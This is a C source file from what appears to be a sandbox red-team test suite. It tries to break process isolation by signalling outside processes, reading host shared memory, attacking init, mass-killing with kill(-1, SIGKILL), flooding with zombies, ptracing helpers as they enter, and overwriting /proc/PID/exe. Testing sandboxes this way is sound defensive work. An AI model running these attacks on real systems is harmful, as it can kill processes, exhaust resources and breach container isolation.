/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on processes: signals to others, shared memory of others, init, the helpers that enter the sandbox, exec. */
#include "redcell.h"

#include <dirent.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>

extern char **environ;

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void ll_04(struct run *r)
{
	pid_t pid = (pid_t)arg_number(r, "pid", 0);
	union sigval v = { .sival_int = 1 };

	/* only the canary is signalled, whatever namespace we are in */
	if (pid <= 1) {
		note(r, UNREACHABLE, "no canary process named");
		return;
	}
	attempt(r, "kill", kill(pid, SIGUSR1));
	attempt(r, "sigqueue", sigqueue(pid, SIGUSR1, v));
	attempt(r, "tgkill", syscall(SYS_tgkill, pid, pid, SIGUSR1));
	long fd = syscall(SYS_pidfd_open, pid, 0);

	attempt(r, "pidfd_send_signal",
		fd < 0 ? -1 : syscall(SYS_pidfd_send_signal, (int)fd, SIGUSR1, NULL, 0));
}

static void ll_04b(struct run *r)
{
	pid_t pid = (pid_t)arg_number(r, "pid", 0);
	struct rlimit limit;

	if (pid <= 1) {
		note(r, UNREACHABLE, "no canary process named");
		return;
	}
	attempt(r, "prlimit", syscall(SYS_prlimit64, pid, RLIMIT_CORE, NULL, &limit));
	attempt(r, "setpriority", setpriority(PRIO_PROCESS, (id_t)pid, 5));
	attempt(r, "getpgid", getpgid(pid));
	attempt(r, "sched_getaffinity", syscall(SYS_sched_getaffinity, pid, sizeof(limit), &limit));
}

static void ll_06(struct run *r)
{
	pid_t pid = (pid_t)arg_number(r, "pid", 0);
	int pair[2];

	if (pid <= 1 || socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) != 0) {
		note(r, UNREACHABLE, "no canary process named, or no sockets");
		return;
	}
	/* the kernel sends the signal: at the end of input, and at urgent data */
	if (fcntl(pair[0], F_SETOWN, pid) != 0 || fcntl(pair[0], F_SETSIG, SIGUSR1) != 0) {
		attempt(r, "F_SETOWN", -1);
		return;
	}
	r->attempts++;
	if (fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK) != 0 || write(pair[1], "x", 1) != 1)
		remark(r, "no signal sent: %s", strerrorname_np(errno));
	else
		remark(r, "a signal on input was ordered for %d", pid);
}

static void ps_01(struct run *r)
{
	/* every sandbox of the machine whose ids are the same would end, also those of other instances */
	if (on_host()) {
		note(r, ESCAPED, "in the host's pid namespace: nothing is killed");
		return;
	}
	r->attempts++;
	remark(r, "kill(-1, SIGKILL)");
	printf("{\"id\":\"PS-01\",\"outcome\":\"blocked\",\"errno\":\"\",\"attempts\":1,"
	       "\"detail\":\"kill(-1) sent\",\"proof\":\"\"}\n");
	fflush(stdout);
	kill(-1, SIGKILL);
}

/* Whatever survives a teardown: sessions of their own, stopped, waiting uninterruptibly for a vforked child, subreapers. */
static void ps_02(struct run *r)
{
	int made = 0;

	prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
	for (int i = 0; i < 4; i++) {
		if (fork() == 0) {
			setsid();
			if (fork() != 0)
				_exit(0);
			for (int s = 1; s < 32; s++)
				signal(s, SIG_IGN);
			if (i == 1)
				raise(SIGSTOP);
			if (i == 2 && vfork() == 0)
				for (;;)
					pause();
			for (;;)
				pause();
		}
		made++;
	}
	r->attempts = made;
	remark(r, "%d families that do not want to end", made);
}

static void ps_03(struct run *r)
{
	int id = shmget((key_t)arg_number(r, "shmkey", 0x63617901), 0, 0);

	if (attempt(r, "shmget of the host's key", id) >= 0) {
		char *p = shmat(id, NULL, SHM_RDONLY);

		if (p != (char *)-1)
			prove(r, p, strnlen(p, 64));
	}
	attempt(r, "semget of the host's key",
		semget((key_t)arg_number(r, "shmkey", 0x63617901), 0, 0));
	attempt(r, "mq_open of the host's queue",
		mq_open(arg(r, "mqueue", "/cay-attack"), O_RDONLY));
	char path[256];

	snprintf(path, sizeof(path), "/dev/shm%s", arg(r, "posixshm", "/cay-attack"));
	if (prove_file(r, path) >= 0)
		remark(r, "%s read", path);
}

/* Sets up what PS-03 looks for, for the neighbour case. */
static void ps_03_make(struct run *r)
{
	int id = shmget((key_t)arg_number(r, "shmkey", 0x63617901), 4096, IPC_CREAT | 0666);
	char *p = id < 0 ? (char *)-1 : shmat(id, NULL, 0);

	r->attempts++;
	if (p != (char *)-1)
		snprintf(p, 4096, "%s", arg(r, "nonce", "neighbour"));
	semget((key_t)arg_number(r, "shmkey", 0x63617901), 1, IPC_CREAT | 0666);
	remark(r, "segment %d", id);
}

static void ps_07(struct run *r)
{
	for (int s = 1; s < 64; s++)
		if (kill(1, s) != 0 && r->error == 0)
			r->error = errno;
	r->attempts++;
	remark(r, "every signal sent to init");
	attempt(r, "open of init's memory for writing", open("/proc/1/mem", O_RDWR | O_CLOEXEC));
}

static void ps_08(struct run *r)
{
	long want = arg_number(r, "processes", 400);
	long made = 0;

	while (made < want) {
		pid_t pid = fork();

		if (pid == 0)
			_exit(0);
		if (pid < 0)
			break;
		made++;
	}
	r->attempts++;
	if (made < want)
		r->error = errno;
	remark(r, "%ld zombies", made);
	if (made >= want)
		note(r, ESCAPED, "no limit up to %ld", want);
}

/* Is @pid still the helper? What it executes can be read when it is the payload's. */
static bool still_helper(int pid)
{
	char path[64], link[256] = "";
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (readlink(path, link, sizeof(link) - 1) > 0)
		return strstr(link, "cay-") != NULL;
	snprintf(path, sizeof(path), "/proc/%d", pid);
	return errno == EACCES && stat(path, &st) == 0;
}

static void trace_helper(struct run *r, int pid, const char *comm)
{
	/* its files in /proc belong to the host's root, this only asks for the capability */
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
		return;
	if (still_helper(pid))
		note(r, ESCAPED, "helper %s (%d) traced", comm, pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void look_at_helper(struct run *r, int pid, const char *comm)
{
	char path[64], link[256], links[1024] = "";

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	int fd = open(path, O_RDWR | O_CLOEXEC);

	if (fd >= 0 && still_helper(pid))
		note(r, ESCAPED, "memory of helper %s (%d) opened", comm, pid);
	if (fd >= 0)
		close(fd);
	if (arg_number(r, "trace", 0) != 0)
		trace_helper(r, pid, comm);
	for (int k = 0; k < 64; k++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, k);
		ssize_t n = readlink(path, link, sizeof(link) - 1);

		if (n <= 0 || strlen(links) + (size_t)n + 2 > sizeof(links))
			continue;
		link[n] = '\0';
		strcat(strcat(links, " "), link);
	}
	if (links[0] != '\0' && still_helper(pid))
		note(r, LEAKED, "descriptors of helper %s:%s", comm, links);
}

/* Watches for processes that enter the sandbox and tries to take them over before they execute the payload. */
static void ex_06(struct run *r)
{
	long long end = now_ms() + arg_number(r, "ms", 3000);
	char path[64], comm[32];
	long looks = 0, helpers = 0;
	int highest = 0;

	while (now_ms() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d != NULL && (e = readdir(d)) != NULL) {
			int pid = atoi(e->d_name);

			if (pid <= 1 || pid == getpid())
				continue;
			highest = pid > highest ? pid : highest;
			snprintf(path, sizeof(path), "/proc/%d/comm", pid);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			ssize_t n = fd < 0 ? -1 : read(fd, comm, sizeof(comm) - 1);

			close(fd);
			if (n <= 0)
				continue;
			comm[n - 1] = '\0';
			looks++;
			/* a process that still is the helper must be closed to us; by now it may have executed the payload */
			if (strncmp(comm, "cay", 3) != 0 && strncmp(comm, "starter", 7) != 0)
				continue;
			helpers++;
			look_at_helper(r, pid, comm);
			if (r->outcome == ESCAPED)
				break;
		}
		if (d != NULL)
			closedir(d);
		if (r->outcome == ESCAPED)
			break;
	}
	r->attempts = (int)(looks > 1000000 ? 1000000 : looks);
	remark(r, "%ld looks, %ld at helpers, highest pid %d", looks, helpers, highest);
}

static void ex_01(struct run *r)
{
	static const char *const exes[] = { "/proc/1/exe", "/proc/self/exe" };

	for (size_t i = 0; i < sizeof(exes) / sizeof(exes[0]); i++) {
		int fd = open(exes[i], O_WRONLY | O_CLOEXEC);

		attempt(r, exes[i], fd);
		/* the classic: keep a descriptor, wait until the program is no longer running */
		int path = open(exes[i], O_PATH | O_CLOEXEC);

		if (path >= 0) {
			char again[64];

			snprintf(again, sizeof(again), "/proc/self/fd/%d", path);
			attempt(r, "reopen of its descriptor",
				open(again, O_WRONLY | O_TRUNC | O_CLOEXEC));
			close(path);
		}
	}
}

static void ex_02(struct run *r)
{
	char cwd[4096];
	struct stat here, root;

	r->attempts++;
	if (getcwd(cwd, sizeof(cwd)) == NULL || cwd[0] != '/') {
		note(r, ESCAPED, "working directory outside of the root: %s", cwd);
		return;
	}
	remark(r, "cwd %s", cwd);
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0)
			break;
	if (stat(".", &here) == 0 && stat("/", &root) == 0 &&
		(here.st_dev != root.st_dev || here.st_ino != root.st_ino))
		note(r, ESCAPED, "climbing from the working directory does not end at the root");
}

static void ex_04(struct run *r)
{
	for (char **e = environ; *e != NULL; e++) {
		r->attempts++;
		prove(r, *e, strlen(*e));
	}
}

static void ps_10(struct run *r)
{
	/* forges what the supervisor would say: descriptors of init are closed to us, so try every socket name */
	static const char *const names[] = { "/proc/1/fd/3", "/proc/1/fd/4", "/proc/1/fd/0",
		"/proc/1/fd/1" };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		attempt(r, names[i], open(names[i], O_RDWR | O_CLOEXEC));
}

static void cr_01(struct run *r)
{
	/* give ourselves an identity that is not mapped, or drop it: the id outside must stay in the range */
	static const uid_t ids[] = { 0, 1, 65534, 65535, 65536, 100000, 4294967294U };

	for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
		pid_t pid = fork();
		int status = 0;

		if (pid == 0)
			_exit(syscall(SYS_setresuid, ids[i], ids[i], ids[i]) == 0 ? 0 : errno);
		waitpid(pid, &status, 0);
		r->attempts++;
		if (ids[i] >= 65536 && WEXITSTATUS(status) == 0)
			note(r, ESCAPED, "uid %u can be taken", ids[i]);
		else
			remark(r, "setuid(%u): %d", ids[i], WEXITSTATUS(status));
	}
}

const struct attack attacks_process[] = {
	{ "LL-04", "signals a process outside", ll_04 },
	{ "LL-04B", "changes limits and priority of a process outside", ll_04b },
	{ "LL-06", "has the kernel send a signal to a process outside", ll_06 },
	{ "PS-01", "kill(-1, SIGKILL)", ps_01 },
	{ "PS-02", "leaves processes that do not want to end", ps_02 },
	{ "PS-03", "reads the host's System V and POSIX shared memory", ps_03 },
	{ "PS-03M", "makes shared memory for a neighbour to find", ps_03_make },
	{ "PS-07", "attacks init", ps_07 },
	{ "PS-08", "floods with zombies", ps_08 },
	{ "PS-10", "takes init's descriptors", ps_10 },
	{ "EX-01", "replaces the program of its helpers through /proc/PID/exe", ex_01 },
	{ "EX-02", "escapes by its working directory", ex_02 },
	{ "EX-04", "looks for an inherited environment", ex_04 },
	{ "EX-06", "takes over helpers while they enter", ex_06 },
	{ "NS-12", "takes ids that are not its own", cr_01 },
	{ NULL, NULL, NULL },
};
